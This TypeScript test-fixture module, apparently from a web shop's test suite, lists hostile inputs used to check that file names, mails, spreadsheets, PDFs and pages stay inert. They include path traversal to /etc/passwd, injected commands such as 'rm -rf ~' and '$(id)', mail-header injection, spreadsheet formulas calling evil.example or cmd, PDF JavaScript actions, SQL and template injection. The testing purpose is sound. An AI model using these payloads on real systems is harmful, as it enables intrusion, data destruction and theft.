import { HOSTILE_HTML } from './html'
import { HOSTILE_LINKS } from './links'

/** Names of files that leave their folder, change their type or become something else in a header. */
export const HOSTILE_FILE_NAMES: readonly string[] = [
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '....//....//etc/passwd',
  '%2e%2e%2fetc%2fpasswd',
  '..%252f..%252fetc/passwd',
  '..%c0%af..%c0%afetc/passwd',
  '/etc/passwd',
  'C:\\boot.ini',
  '\\\\evil.example\\share\\a.png',
  'file:///etc/passwd',
  'a.png\u0000.html',
  'a.png%00.html',
  'a.php.png',
  'a.png.svg',
  'a\u202Egnp.exe',
  'CON.png',
  'aux',
  '.htaccess',
  '...',
  'a.png:$DATA',
  'a.png\r\nContent-Type: text/html',
  'a"; filename="b.html',
  "a'; rm -rf ~; '.png",
  '$(id).png',
  '`id`.png',
  '| id',
  '{{7*7}}.png',
  '${7*7}.png',
  `${'a'.repeat(300)}.png`,
]

/** Texts that are harmless as HTML but active in another format. */
const OTHER_FORMATS = [
  // Mail headers
  'Tom\r\nBcc: eve@evil.example',
  'Tom\nContent-Type: text/html\n\n<script>alert(1)</script>',
  'Tom\r\n\r\n--boundary\r\nContent-Type: text/html',
  'Tom%0d%0aBcc:%20eve@evil.example',
  'Tom\u0085Bcc: eve@evil.example',
  'Tom\u2028Bcc: eve@evil.example',
  '=?utf-8?q?Tom=0ABcc:_eve@evil.example?=',
  '"Tom" <eve@evil.example>, <adam@evil.example>',
  'Tom\r\n.\r\nMAIL FROM:<eve@evil.example>',
  '{shop}',
  // Formulas
  '=HYPERLINK("https://evil.example","x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd|x!A0',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  '","=1+1',
  '";=1+1;"',
  '=IMPORTXML("https://evil.example","//a")',
  'x\n=1+1',
  // PDF
  ') Tj ET (x) /URI (https://evil.example) /JavaScript \\',
  '>> endobj 9 0 obj << /S /Launch /F (x) >> %PDF-1.7',
  '<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>',
  'endstream endobj trailer << /Root 1 0 R >> %%EOF',
  '<feff003c>',
  // Templates, queries, prototypes and logs
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= system("id") %>',
  '#{7*7}',
  "'; DROP TABLE products; --",
  "' OR '1'='1",
  '\\',
  '%s%n%x',
  '__proto__',
  'constructor',
  "$& $1 $` $'",
  '\u001B[31mred\u001B[0m',
]

/** Invisible characters, bidirectional controls, non-characters, and extreme lengths. */
const CHARACTERS = [
  'a\u202Eb\u202Cc',
  '\u2066a\u2067b\u2068c',
  '\u200Fabc\u061C',
  'a\u200Bb\u200Dc\u2060d',
  '\uFEFFabc',
  'a\u0007b\u001Bc\u007Fd',
  'a\u0085b\u2028c\u2029d',
  'a\u0000b',
  'a\uD800b',
  'a\uFFFEb\uFFFFc',
  'Z\u0351\u036B\u0343\u032A\u0302\u036B\u033D\u034F\u0334\u0319\u0324 a',
  '🍅 tomato 👩🏽‍🍳 Żółć & Ğüş – “déjà vu”',
  'x'.repeat(2000),
  '\uFDFD'.repeat(20),
  '<'.repeat(50),
  '&#x3c;&#60;&lt',
]

/** Texts that must stay inert in mails, files and pages. */
export const HOSTILE_TEXTS: readonly string[] = [...OTHER_FORMATS, ...CHARACTERS]

/** All payloads of this folder, without duplicates. */
export const HOSTILE_PAYLOADS: readonly string[] = [
  ...new Set([...HOSTILE_HTML, ...HOSTILE_LINKS, ...HOSTILE_FILE_NAMES, ...HOSTILE_TEXTS]),
].filter((text) => text !== '')

/** True for text that the database cannot store (NUL or a lone surrogate): the backend rejects it. */
export const isRefused = (text: string): boolean => /\0|\p{Cs}/u.test(text)

/** Payloads that the backend stores if their length is valid. */
export const STORED_PAYLOADS: readonly string[] = HOSTILE_PAYLOADS.filter((text) => !isRefused(text))
